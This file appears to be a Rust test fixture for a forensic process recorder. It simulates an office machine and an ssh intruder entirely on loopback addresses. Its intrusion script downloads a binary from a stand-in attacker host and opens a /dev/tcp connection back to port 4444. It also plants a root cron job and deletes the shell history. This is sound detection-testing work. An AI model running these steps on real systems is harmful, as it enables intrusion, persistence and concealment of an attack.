//! What happens on the recorded machine: an office's day, and one intruder in it. Whoever acts writes down what they did and
//! when, which is what the answers are held against.
//!
//! Everything runs on a machine of the test's own with the kernel's events, whose network is the one underneath, so all
//! addresses are of the loopback network: 127.0.113.0/24 stands for 203.0.113.0/24 of docs/queries.md.

use pofr_tests::{
    machine::{Kind, Machine},
    programs::program,
};
use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

/// Programs that are scripts by these names.
const PROGRAMS: [(&str, &str); 3] = [
    // A web server that has files below /usr and elsewhere open.
    (
        "httpd",
        "exec 3</usr/share/common-licenses/GPL-3 4</usr/share/common-licenses/BSD 5</etc/passwd; say httpd; sleep 4; exit",
    ),
    ("nmap", "say nmap; sleep 1; exit"),
    ("google-chrome", "exec 3<>/dev/tcp/$1/8443; say \"chrome $1\"; sleep 3; exit"),
];

/// Tells who says it: the name given, the process, the time in µs. `EPOCHREALTIME` has a comma in some locales.
const SAY: &str = "say() { echo \"$1 $$ ${EPOCHREALTIME/[.,]/}\" >> /run/said; }";

/// Servers on the loopback network: what the browser asks, what the intruder downloads and calls home to, and what is probed.
const SERVERS: &str = r#"
import http.server, os, socket, threading
def listen(address, port):
    s = socket.create_server((address, port))
    def serve():
        held = []
        while True: held.append(s.accept())
    threading.Thread(target=serve, daemon=True).start()
listen("127.0.113.10", 8443); listen("127.0.113.11", 8443); listen("127.0.113.66", 4444); listen("127.0.113.1", 137)
class Update(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = open("/bin/bash", "rb").read()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
web = http.server.ThreadingHTTPServer(("127.0.113.66", 8000), Update)
open("/run/serving", "w").close()
web.serve_forever()
"#;

/// Someone tries two ports from an address that the test's country database knows.
const PROBES: &str = r#"
import socket, time
probes = [socket.create_connection(("127.0.113.1", port), source_address=("127.0.113.200", 0)) for port in (137, 22)]
time.sleep(2)
"#;

/// Devices of the machine's own, so that it can have a log.
const DEVICES: &str = r#"
mount -t tmpfs tmpfs /var/log
mkdir /run/dev && mount -t tmpfs tmpfs /run/dev
for device in null zero full random urandom tty; do touch /run/dev/$device; mount --bind /dev/$device /run/dev/$device; done
mkdir /run/dev/pts /run/dev/shm && mount --rbind /dev/pts /run/dev/pts && mount --bind /dev/shm /run/dev/shm
ln -s /proc/self/fd /run/dev/fd; ln -s pts/ptmx /run/dev/ptmx
mount --move /run/dev /dev
"#;

/// What a bare machine lacks: who writes what programs log (syslog(3)) where sshd's lines are looked for.
const SYSLOG: &str = r#"
import re, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind("/dev/log")
while True:
    line = s.recv(8192).decode(errors="replace")
    match = re.match(r"<\d+>(\w+ +\d+ [\d:]+) (.*)", line, re.S)
    if match:
        with open("/var/log/auth.log", "a") as log: log.write(f"{match[1]} host {match[2]}\n")
"#;

/// What the intruder does, behind a login by ssh.
const INTRUSION: &str = r#"
say shell
curl -s -o /var/tmp/.update http://127.0.113.66:8000/update
say downloaded
chmod +x /var/tmp/.update
/var/tmp/.update -c 'exec 3<>/dev/tcp/127.0.113.66/4444; echo hello >&3; for i in 1 2 3 4 5; do sleep 1; done' &
say_as dropper $!
sleep 1
rm /var/tmp/.update
say removed
sleep 1
id > /dev/null
say id
echo '* * * * * root /var/tmp/.update' > /etc/cron.d/update
say cron
sleep 1
say middle
wait
rm -f ~/.bash_history
say gone
sleep 1
"#;

/// What someone did: their process and when, µs.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Deed {
    /// The process.
    pub(crate) pid: u32,
    /// When.
    pub(crate) at: i64,
}

/// What is left of it all.
pub(crate) struct Scene {
    /// What was recorded.
    pub(crate) bundles: PathBuf,
    deeds: BTreeMap<String, Deed>,
}

impl Scene {
    /// Plays and records it all, into a directory in `dir`; `None`, loudly, where no such machine can be made.
    pub(crate) fn play(dir: &Path) -> Option<Self> {
        let machine = match Machine::start(Kind::Client, &[&program("pofrc")]) {
            Ok(machine) => machine,
            Err(error) => {
                eprintln!("SKIPPED: no machine can be made here: {error}");
                return None;
            }
        };
        set_up(&machine);
        machine.text("pofrc start --detach --interval 100ms --bundle 4s --max-cpu 100% --watch /etc/cron.d --watch /var/tmp");
        wait(2);
        machine.text("date +%s%6N > /run/before");
        // A sample or more, so that what comes now was certainly not there then.
        wait(1);
        machine.text("setsid python3 /root/servers.py > /dev/null 2>&1 &");
        until(&machine, "test -e /run/serving");
        for (user, command) in [
            ("www-data", "httpd"),
            ("toma", "nmap -P0 192.168.18.34"),
            ("nathanp", "google-chrome 127.0.113.10"),
            ("nathanp", "google-chrome 127.0.113.11"),
        ] {
            machine.text(&format!("setsid runuser -u {user} -- {command} > /dev/null 2>&1 &"));
        }
        machine.text("setsid python3 /root/probes.py > /dev/null 2>&1 &");
        wait(2);
        let intrusion = "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /root/key \
                         -b 127.0.113.66 mallory@127.0.113.1 bash -l -s < /root/intrusion.sh";
        machine.text(intrusion);
        wait(2);
        machine.text("date +%s%6N > /run/after");
        machine.text("pofrc stop");
        let mut said = machine.text("cat /run/said");
        for mark in ["before", "after"] {
            said.push_str(&format!("{mark} 0 {}", machine.text(&format!("cat /run/{mark}"))));
        }
        let deeds = said.lines().filter_map(deed).collect();
        // The machine has a /dev/shm of its own; this directory it shares.
        let bundles = dir.join("bundles");
        machine.text(&format!("mkdir {0} && cp /dev/shm/pofr/*.tar {0}/", bundles.display()));
        Some(Self { bundles, deeds })
    }

    /// Returns what was done by this name.
    pub(crate) fn deed(&self, name: &str) -> Deed {
        *self.deeds.get(name).unwrap_or_else(|| panic!("nobody said {name}: {:?}", self.deeds))
    }
}

fn set_up(machine: &Machine) {
    machine.text(DEVICES);
    for user in ["toma", "nathanp", "mallory"] {
        machine.text(&format!("useradd --create-home --shell /bin/bash {user} && passwd -q -d {user}"));
    }
    for (name, script) in PROGRAMS {
        let path = format!("/usr/local/bin/{name}");
        machine.write(&path, &format!("#!/bin/bash\n{SAY}\n{script}\n"));
        machine.text(&format!("chmod 755 {path}"));
    }
    let as_another = "say_as() { echo \"$1 $2 ${EPOCHREALTIME/[.,]/}\" >> /run/said; }";
    machine.write("/root/intrusion.sh", &format!("{SAY}\n{as_another}\n{INTRUSION}"));
    machine.write("/root/servers.py", SERVERS);
    machine.write("/root/probes.py", PROBES);
    machine.text("touch /run/said && chmod 666 /run/said; mkdir -p /etc/cron.d; mount -t tmpfs tmpfs /etc/cron.d && mount -t tmpfs tmpfs /var/tmp && chmod 1777 /var/tmp && chown mallory /etc/cron.d");
    machine.text("mkdir -p /home/mallory/.ssh && ssh-keygen -q -N '' -t ed25519 -f /root/key");
    machine.text("cp /root/key.pub /home/mallory/.ssh/authorized_keys && chown -R mallory /home/mallory");
    machine.text("echo 'ListenAddress 127.0.113.1' >> /etc/ssh/sshd_config");
    // With a log, which the one that the machine starts has not.
    machine.write("/root/syslog.py", SYSLOG);
    machine.text("setsid python3 /root/syslog.py > /dev/null 2>&1 &");
    until(machine, "test -S /dev/log");
    machine.text("touch /var/log/auth.log && /usr/sbin/sshd");
    // By this machine's clock on the wall it is some time after two in the morning.
    let hour: i64 = machine.text("date -u +%H").trim().parse().unwrap();
    let east = (2 - hour + 36) % 24 - 12;
    // POSIX counts offsets to the west.
    let zone = format!("Etc/GMT{}{}", if east > 0 { "-" } else { "+" }, east.abs());
    machine.text(&format!("ln -sf /usr/share/zoneinfo/{zone} /etc/localtime && echo {zone} > /etc/timezone"));
}

fn deed(line: &str) -> Option<(String, Deed)> {
    let mut words = line.rsplitn(3, ' ');
    let at = words.next()?.parse().ok()?;
    let pid = words.next()?.parse().ok()?;
    Some((words.next()?.to_owned(), Deed { pid, at }))
}

fn wait(seconds: u64) {
    std::thread::sleep(Duration::from_secs(seconds));
}

fn until(machine: &Machine, script: &str) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !machine.sh(script).status.success() {
        assert!(Instant::now() < deadline, "{script} does not come about");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Returns the path of the page with the questions.
pub(crate) fn page() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/queries.md")
}
